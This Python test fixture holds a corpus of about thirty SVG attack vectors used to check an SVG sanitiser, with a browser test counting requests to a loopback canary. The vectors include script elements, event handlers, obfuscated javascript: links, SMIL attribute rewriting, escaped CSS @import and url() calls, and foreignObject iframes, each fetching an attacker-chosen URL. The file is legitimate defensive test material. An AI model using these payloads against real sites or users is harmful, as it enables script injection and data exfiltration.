"""Published SVG script and exfiltration vectors, as a corpus for the sanitiser.

Gathered from the well-known cheat sheets' families (script elements and
handlers, javascript: links, SMIL set/animate, external references through
href, CSS @import and url() with and without escapes, presentation
attributes, image-set, foreign content, stylesheets by processing
instruction). `{leak}` is a URL prefix each vector asks for (or runs script to
ask for) when it works; the browser test points it at a canary server on
loopback and counts the requests that reach it.
"""

from __future__ import annotations

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
OPEN = HEAD + 'width="60" height="40">'
RAN = "fetch('{leak}/script/{n}')"  # what a vector's script does when it runs

VECTORS: list[str] = [
    # Script and handlers.
    OPEN + "<script>" + RAN + "</script></svg>",
    HEAD + 'width="60" height="40" onload="' + RAN + '"></svg>',
    OPEN + '<rect width="10" height="10"><set attributeName="onmouseover" to="' + RAN + '"/>'
    "</rect></svg>",
    OPEN + '<image href="x" onerror="' + RAN + '"/></svg>',
    OPEN + '<animate onbegin="' + RAN + '" attributeName="x" dur="1s"/></svg>',
    OPEN + '<script xlink:href="{leak}/external-script/{n}"/></svg>',
    OPEN + '<script href="data:text/javascript,' + RAN + '"/></svg>',
    # SMIL that writes a link or an event handler at run time.
    OPEN + '<a id="a"><set attributeName="href" to="javascript:' + RAN + '"/>'
    '<rect width="60" height="40"/></a></svg>',
    OPEN + '<image width="10" height="10"><set attributeName="href" to="{leak}/set-href/{n}"/>'
    "</image></svg>",
    OPEN + '<image width="10" height="10"><animate attributeName="xlink:href" '
    'values="{leak}/animate-href/{n}" dur="1s"/></image></svg>',
    OPEN + '<rect width="10" height="10"><set attributeName="style" '
    "to=\"fill:url('{leak}/set-style/{n}')\"/></rect></svg>",
    # External references.
    OPEN + '<image href="{leak}/image/{n}" width="10" height="10"/></svg>',
    OPEN + '<image xlink:href="{leak}/xlink-image/{n}" width="10" height="10"/></svg>',
    OPEN + '<use href="{leak}/use/{n}#a"/></svg>',
    OPEN + '<filter id="f"><feImage href="{leak}/feimage/{n}"/></filter>'
    '<rect width="10" height="10" filter="url(#f)"/></svg>',
    OPEN + '<image href="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;'
    " onload=&quot;" + RAN + '&quot;/&gt;" width="10" height="10"/></svg>',
    # CSS: plain, escaped, in attributes.
    OPEN + "<style>@import url({leak}/import/{n});</style></svg>",
    OPEN + "<style>@im\\port url({leak}/import-escaped/{n});</style></svg>",
    OPEN + "<style>@import '{leak}/import-string/{n}';</style></svg>",
    OPEN + "<style>rect { fill: u\\72l({leak}/url-escaped/{n}) }</style>"
    '<rect width="10" height="10"/></svg>',
    OPEN + "<style>rect { fill: \\75rl({leak}/url-escaped-u/{n}) }</style>"
    '<rect width="10" height="10"/></svg>',
    OPEN + "<style>rect { fill: url/**/({leak}/comment/{n}) }</style>"
    '<rect width="10" height="10"/></svg>',
    OPEN + '<rect width="10" height="10" style="fill: u\\72l({leak}/style-escaped/{n})"/></svg>',
    OPEN + '<rect width="10" height="10" fill="url({leak}/fill/{n}#p)"/></svg>',
    OPEN + '<rect width="10" height="10" filter="url({leak}/filter/{n}#f)"/></svg>',
    OPEN + '<rect width="10" height="10" mask="url({leak}/mask/{n}#m)"/></svg>',
    OPEN + '<rect width="10" height="10" style="cursor: url({leak}/cursor/{n}), auto"/></svg>',
    OPEN + "<style>rect { background: image-set('{leak}/image-set/{n}' 1x) }</style>"
    '<rect width="10" height="10"/></svg>',
    OPEN + "<style>@font-face { font-family: f; src: url({leak}/font/{n}) }"
    " text { font-family: f }</style><text y='20'>x</text></svg>",
    # Foreign content and other vocabularies.
    OPEN + '<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml"'
    ' src="{leak}/iframe/{n}"/></foreignObject></svg>',
    OPEN + '<foreignObject width="60" height="40"><img xmlns="http://www.w3.org/1999/xhtml"'
    ' src="{leak}/html-img/{n}"/></foreignObject></svg>',
    OPEN + '<html:link xmlns:html="http://www.w3.org/1999/xhtml" rel="stylesheet"'
    ' href="{leak}/html-link/{n}"/></svg>',
    OPEN + '<a xlink:href="jav&#x09;ascript:' + RAN + '"><rect width="60" height="40"/></a></svg>',
    "<?xml-stylesheet type='text/css' href='{leak}/stylesheet-pi/{n}'?>" + OPEN + "</svg>",
]


def vector(index: int, leak: str) -> bytes:
    return VECTORS[index].replace("{leak}", leak).replace("{n}", str(index)).encode()
